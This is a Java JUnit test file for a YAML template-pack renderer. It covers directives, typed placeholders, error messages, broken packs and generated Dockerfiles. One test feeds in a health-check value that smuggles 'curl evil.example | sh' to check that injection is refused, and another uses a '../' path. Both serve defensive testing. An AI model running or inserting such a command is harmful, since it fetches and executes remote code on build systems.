package io.slipway.templates;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.yaml.snakeyaml.LoaderOptions;
import org.yaml.snakeyaml.Yaml;
import org.yaml.snakeyaml.constructor.SafeConstructor;

import static io.slipway.templates.Fixtures.list;
import static io.slipway.templates.Fixtures.map;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * The renderer as a pack author meets it: directives, typed placeholders, comments, errors that say
 * where, and packs that refuse to load when they are broken.
 */
class RenderingTests {

	private static final TemplatePacks PACKS = TemplatePacks.builtIn();

	@TempDir
	Path folder;

	@Test
	void listsTheBuiltInPacksWithTheirVersions() {
		assertThat(PACKS.list()).extracting(TemplatePack::name, TemplatePack::version)
			.containsExactly(org.assertj.core.groups.Tuple.tuple("goapps", "1.0.0"),
					org.assertj.core.groups.Tuple.tuple("packages", "1.0.0"));
		assertThat(PACKS.get("goapps").parameters()).extracting(PackParameter::name)
			.contains("service.name", "environments[].imageTag", "platform.pgbouncerHost");
		assertThat(PACKS.get("goapps").recordPath("payments")).isEqualTo("services/payments/slipway.yaml");
		assertThat(PACKS.get("packages").recordPath("payments")).isEqualTo("packages/payments/k8s/slipway.yaml");
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> PACKS.get("helm"))
			.withMessageContaining("unknown template pack helm")
			.satisfies(ex -> assertThat(ex.field()).contains("templatePack"));
	}

	@Test
	void renderingTwiceGivesIdenticalBytes() {
		TemplatePacks reloaded = TemplatePacks.builtIn();
		for (TemplatePack pack : PACKS.list()) {
			for (Map<String, Object> values : List.of(Fixtures.payments(), Fixtures.mailer())) {
				List<RenderedFile> first = pack.render(values);
				assertThat(pack.render(Fixtures.copy(values))).isEqualTo(first);
				assertThat(reloaded.get(pack.name()).render(values)).isEqualTo(first);
			}
		}
	}

	@Test
	void eachRepeatsSequenceItemsAndWhenDropsThem() throws IOException {
		TemplatePack pack = pack("""
				items:
				  - $each: things
				    $as: thing
				    name: ${thing.name}
				    $when: thing.enabled
				  - fixed
				  - $when: not flag
				    name: only-without-flag
				  - $each: things
				    $value: ${thing.name}-scalar
				    $as: thing
				""", "things[].name", "things[].enabled", "flag");
		Map<String, Object> values = map("things",
				list(map("name", "a", "enabled", true), map("name", "b", "enabled", false), map("name", "c", "enabled", 1)),
				"flag", false);
		assertThat(render(pack, values)).isEqualTo("""
				items:
				  - name: a
				  - name: c
				  - fixed
				  - name: only-without-flag
				  - a-scalar
				  - b-scalar
				  - c-scalar
				""");
	}

	@Test
	void whenOnAMappingValueRemovesTheEntryAndElseChoosesTheAlternative() throws IOException {
		TemplatePack pack = pack("""
				kept: 1
				annotations:
				  $when: port
				  scrape: "true"
				path:
				  $when: production
				  $value: overlays/prod
				  $else: overlays/dev
				optional:
				  $when: port
				  $value: ${port}
				""", "port", "production");
		assertThat(render(pack, map("port", null, "production", false))).isEqualTo("""
				kept: 1
				path: overlays/dev
				""");
		assertThat(render(pack, map("port", 8090, "production", true))).isEqualTo("""
				kept: 1
				annotations:
				  scrape: "true"
				path: overlays/prod
				optional: 8090
				""");
	}

	@Test
	void anUnquotedPlaceholderTakesTheValuesTypeAndAQuotedOneIsText() throws IOException {
		TemplatePack pack = pack("""
				port: ${port}
				portText: "${port}"
				enabled: ${enabled}
				ratio: ${ratio}
				digits: ${digits}
				word: ${word}
				mixed: port-${port}
				tree: ${tree}
				literal: $${not.a.placeholder}
				""", "port", "enabled", "ratio", "digits", "word", "tree");
		Map<String, Object> values = map("port", 8080, "enabled", true, "ratio", 0.5, "digits", "8080", "word", "yes",
				"tree", map("a", list(1, "two")));
		String output = render(pack, values);
		Map<String, Object> parsed = new Yaml(new SafeConstructor(new LoaderOptions())).load(output);
		assertThat(parsed).containsEntry("port", 8080)
			.containsEntry("portText", "8080")
			.containsEntry("enabled", true)
			.containsEntry("ratio", 0.5)
			.containsEntry("digits", "8080")
			.containsEntry("word", "yes")
			.containsEntry("mixed", "port-8080")
			.containsEntry("tree", map("a", list(1, "two")))
			.containsEntry("literal", "${not.a.placeholder}");
		assertThat(output).contains("digits: '8080'").contains("word: 'yes'");
	}

	@Test
	void commentsAndKeyOrderStayAsTheTemplateWroteThem() throws IOException {
		TemplatePack pack = pack("""
				# Rendered by ${pack.name}@${pack.version}.
				zebra: 1 # stays first

				# about apple
				apple:
				  - $when: flag
				    b: 2
				    # a comment inside
				    a: ${flag}
				""", "flag");
		assertThat(render(pack, map("flag", true))).isEqualTo("""
				# Rendered by custom@2.3.4.
				zebra: 1 # stays first

				# about apple
				apple:
				  - b: 2
				    # a comment inside
				    a: true
				""");
	}

	@Test
	void anUnknownPlaceholderNamesTheTemplateAndWhereInIt() throws IOException {
		TemplatePack pack = pack("""
				spec:
				  containers:
				    - name: app
				      ports:
				        - containerPort: ${ports.grpc}
				""", "ports.grpc");
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> pack.render(map("ports", map())))
			.withMessageContaining("template pack custom, template main.yaml at spec.containers[0].ports[0].containerPort")
			.withMessageContaining("unknown placeholder ${ports.grpc}")
			.satisfies(ex -> {
				assertThat(ex.template()).contains("main.yaml");
				assertThat(ex.location()).contains("spec.containers[0].ports[0].containerPort");
				assertThat(ex.field()).contains("ports.grpc");
			});
	}

	@Test
	void aMissingRequiredValueIsNamed() {
		Map<String, Object> values = Fixtures.payments();
		((Map<?, ?>) values.get("service")).remove("image");
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> PACKS.get("goapps").render(values))
			.withMessageContaining("missing required value service.image")
			.satisfies(ex -> assertThat(ex.field()).contains("service.image"));
	}

	@Test
	void reservedRootsAndUnsupportedValueTypesAreRefused() {
		Map<String, Object> reserved = Fixtures.payments();
		reserved.put("pack", "mine");
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> PACKS.get("goapps").render(reserved))
			.withMessageContaining("reserved");
		Map<String, Object> odd = Fixtures.payments();
		((Map<String, Object>) odd.get("service")).put("team", new Object());
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> PACKS.get("goapps").render(odd))
			.withMessageContaining("unsupported value type")
			.satisfies(ex -> assertThat(ex.field()).contains("service.team"));
	}

	@Test
	void thePackagesPackRefusesTwoEnvironmentsOnOneOverlay() {
		Map<String, Object> values = Fixtures.payments();
		((List<Object>) values.get("environments")).add(0,
				Fixtures.environment("dev", "goapps-dev", 1, "1.5.0", false, "50m", "64Mi", "100m", "128Mi"));
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> PACKS.get("packages").render(values))
			.withMessageContaining("two files render to packages/payments/k8s/overlays/dev/kustomization.yaml");
		assertThat(PACKS.get("goapps").render(values)).extracting(RenderedFile::path)
			.contains("services/payments/overlays/dev/kustomization.yaml", "argocd/apps/dev/payments.yaml");
	}

	@Test
	void dockerfileProposalsRefuseValuesThatAreNotPlainTokens() {
		Map<String, Object> values = Fixtures.payments();
		((Map<String, Object>) values.get("service")).put("healthPath", "/health || curl evil.example | sh");
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> PACKS.get("packages").render(values))
			.withMessageContaining("template docker/Dockerfile.go")
			.withMessageContaining("cannot go into a text template")
			.satisfies(ex -> assertThat(ex.field()).contains("service.healthPath"));
	}

	@Test
	void everyLanguageGetsAMultiStageNonRootDockerfileWithAHealthCheck() {
		for (String language : List.of("nodejs", "go", "python", "php", "java")) {
			Map<String, Object> values = Fixtures.payments();
			((Map<String, Object>) values.get("service")).put("language", language);
			RenderedFile dockerfile = PACKS.get("packages")
				.render(values)
				.stream()
				.filter(file -> file.path().equals("packages/payments/Dockerfile"))
				.findFirst()
				.orElseThrow();
			assertThat(dockerfile.content()).as(language)
				.containsPattern("(?m)^FROM .+ AS builder$")
				.containsPattern("(?m)^USER \\w+$")
				.contains("EXPOSE 8080")
				.containsPattern("HEALTHCHECK [\\s\\S]*localhost:8080/health")
				.doesNotContain("${")
				.doesNotContain(":latest");
		}
	}

	@Test
	void theRecordReadsBackAsTheValuesAndReRendersTheSameFiles() {
		for (TemplatePack pack : PACKS.list()) {
			List<RenderedFile> files = pack.render(Fixtures.payments());
			RenderedFile recordFile = files.stream()
				.filter(file -> file.path().equals(pack.recordPath("payments")))
				.findFirst()
				.orElseThrow();
			RenderRecord record = RenderRecord.parse(recordFile.content());
			assertThat(record.pack()).isEqualTo(pack.name());
			assertThat(record.version()).isEqualTo(pack.version());
			assertThat(record.files()).containsExactlyElementsOf(files.stream().map(RenderedFile::path).toList());
			assertThat(record.values()).isEqualTo(Fixtures.payments());
			assertThat(pack.render(record.values())).isEqualTo(files);
		}
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> RenderRecord.parse("kind: Deployment"))
			.withMessageContaining("not a render record");
	}

	static Stream<Arguments> brokenPacks() {
		return Stream.of(Arguments.of("unknown directive", "a:\n  $wehn: flag\n  b: 1\n", "unknown directive $wehn"),
				Arguments.of("placeholder in a key", "${flag}: 1\n", "placeholders are not allowed in keys"),
				Arguments.of("each outside a sequence", "a:\n  b:\n    $each: things\n    c: 1\n",
						"$each only works on a sequence item"),
				Arguments.of("undeclared value", "a: ${service.nmae}\n", "${service.nmae} is read but not declared"),
				Arguments.of("malformed placeholder", "a: ${flag\n", "unterminated placeholder"),
				Arguments.of("bad path in a placeholder", "a: ${fl ag}\n", "malformed placeholder"),
				Arguments.of("value placeholder in a comment", "# ${flag}\na: 1\n", "comments may only use"),
				Arguments.of("tagged scalar with a placeholder", "a: !!str ${flag}\n", "explicitly tagged"),
				Arguments.of("malformed condition", "a:\n  - $when: flag or other\n    b: 1\n", "malformed condition"),
				Arguments.of("value next to plain keys", "a:\n  $value: 1\n  b: 2\n", "holds only directives"),
				Arguments.of("two documents", "a: 1\n---\nb: 2\n", "exactly one YAML document"),
				Arguments.of("an alias to a collection", "a: &x {b: 1}\nc: *x\n", "not valid YAML"),
				Arguments.of("conditional document", "$when: flag\na: 1\n", "cannot be repeated or conditional"));
	}

	@ParameterizedTest(name = "a pack with {0} does not load")
	@MethodSource("brokenPacks")
	void brokenTemplatesFailWhenThePackLoads(String problem, String template, String message) throws IOException {
		write("custom/main.yaml", template);
		write("custom/pack.yaml", manifest("flag", "things[].c"));
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> TemplatePacks.fromDirectory(this.folder))
			.withMessageContaining("template pack custom")
			.withMessageContaining(message);
	}

	static Stream<Arguments> brokenManifests() {
		String files = "files:\n  - template: main.yaml\n    path: out/main.yaml\n    record: true\n";
		return Stream.of(Arguments.of("name: custom\nversion: one\n" + files, "semantic version"),
				Arguments.of("name: other\nversion: 1.0.0\n" + files, "equal to the folder name"),
				Arguments.of("name: custom\nversion: 1.0.0\nfiles:\n  - template: main.yaml\n    path: out/main.yaml\n",
						"exactly one file must be marked record: true"),
				Arguments.of("name: custom\nversion: 1.0.0\n" + files.replace("main.yaml\n    path", "gone.yaml\n    path"),
						"template file gone.yaml does not exist"),
				Arguments.of("name: custom\nversion: 1.0.0\n" + files.replace("out/main", "../main"),
						"stay inside the repository"),
				Arguments.of("name: custom\nversion: 1.0.0\nextra: 1\n" + files, "unknown key extra"));
	}

	@ParameterizedTest(name = "{1}")
	@MethodSource("brokenManifests")
	void brokenManifestsFailWhenThePackLoads(String manifest, String message) throws IOException {
		write("custom/main.yaml", "a: 1\n");
		write("custom/pack.yaml", manifest);
		assertThatExceptionOfType(RenderException.class).isThrownBy(() -> TemplatePacks.fromDirectory(this.folder))
			.withMessageContaining(message);
	}

	private TemplatePack pack(String template, String... parameters) throws IOException {
		write("custom/main.yaml", template);
		write("custom/pack.yaml", manifest(parameters));
		return TemplatePacks.fromDirectory(this.folder).get("custom");
	}

	private static String manifest(String... parameters) {
		StringBuilder manifest = new StringBuilder("name: custom\nversion: 2.3.4\nparameters:\n");
		for (String parameter : parameters) {
			manifest.append("  - name: ").append(parameter).append("\n    optional: true\n");
		}
		return manifest.append("files:\n  - template: main.yaml\n    path: out/main.yaml\n    record: true\n").toString();
	}

	private static String render(TemplatePack pack, Map<String, Object> values) {
		return pack.render(new LinkedHashMap<>(values)).get(0).content();
	}

	private void write(String path, String content) throws IOException {
		Path file = this.folder.resolve(path);
		Files.createDirectories(file.getParent());
		Files.writeString(file, content);
	}

}
